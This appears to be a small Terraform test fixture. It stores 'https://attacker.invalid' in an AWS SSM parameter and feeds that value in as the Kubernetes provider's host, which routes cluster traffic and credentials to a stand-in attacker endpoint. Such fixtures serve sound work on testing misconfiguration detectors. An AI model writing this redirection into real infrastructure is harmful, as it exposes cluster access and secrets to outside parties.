resource "aws_ssm_parameter" "host" {
  name  = "host"
  type  = "String"
  value = "https://attacker.invalid"
}

provider "kubernetes" {
  host = aws_ssm_parameter.host.value
}
